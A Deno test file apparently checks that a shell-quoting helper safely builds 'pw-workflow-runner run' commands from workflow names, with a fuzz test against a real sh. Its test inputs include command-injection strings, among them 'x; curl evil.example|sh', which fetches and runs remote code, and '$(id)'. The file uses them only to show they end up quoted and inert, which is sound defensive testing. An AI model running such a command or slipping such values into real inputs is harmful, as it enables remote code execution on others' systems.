import assert from "node:assert/strict";
import { programCommand, shellWord } from "../lib/shell_command.ts";
import { seededRandom } from "./support/seeded_random.ts";

for (
  const [name, command] of [
    ["hello-world", "pw-workflow-runner run hello-world"],
    ["hello-world#46", "pw-workflow-runner run hello-world#46"],
    ["日本語", "pw-workflow-runner run 日本語"],
    ["Split by Species", 'pw-workflow-runner run "Split by Species"'],
    [String.raw`inputs\my file.yaml`, String.raw`pw-workflow-runner run "inputs\my file.yaml"`],
    [String.raw`\\server\share`, String.raw`pw-workflow-runner run '\\server\share'`],
    ["folder\\", String.raw`pw-workflow-runner run 'folder\'`],
    ["#1", 'pw-workflow-runner run "#1"'],
    ["with'quote", String.raw`pw-workflow-runner run 'with'\''quote'`],
    ["x; curl evil.example|sh", "pw-workflow-runner run 'x; curl evil.example|sh'"],
    ["$(id)", "pw-workflow-runner run '$(id)'"],
    ["-dash", "pw-workflow-runner run -- -dash"],
    ["", "pw-workflow-runner run ''"],
  ] as const
) {
  Deno.test(`the command for ${JSON.stringify(name)} is ${command}`, () => {
    assert.equal(programCommand("run", [name]), command);
  });
}

Deno.test("options follow the names, unless a name starts like an option", () => {
  assert.equal(programCommand("run", ["a"], ["-i", "b c.json"]), 'pw-workflow-runner run a -i "b c.json"');
  assert.equal(programCommand("run", ["-a"], ["-i", "b.json"]), "pw-workflow-runner run -i b.json -- -a");
});

Deno.test({
  name: "sh reads every quoted text as one word with the same characters",
  ignore: Deno.build.os === "windows",
  async fn() {
    const random = seededRandom(7);
    const characters = [..." \t\n'\"\\$`!#~*?[]{}()<>|&;=%^-_./:@+,aZ9é日🚀"];
    const texts = Array.from(
      { length: 400 },
      () =>
        Array.from({ length: Math.floor(random() * 9) }, () => characters[Math.floor(random() * characters.length)])
          .join(""),
    );
    const { stdout } = await new Deno.Command("sh", {
      args: ["-c", `printf '%s\\0' ${texts.map(shellWord).join(" ")}`],
    }).output();
    assert.deepEqual(new TextDecoder().decode(stdout).split("\0").slice(0, -1), texts);
  },
});
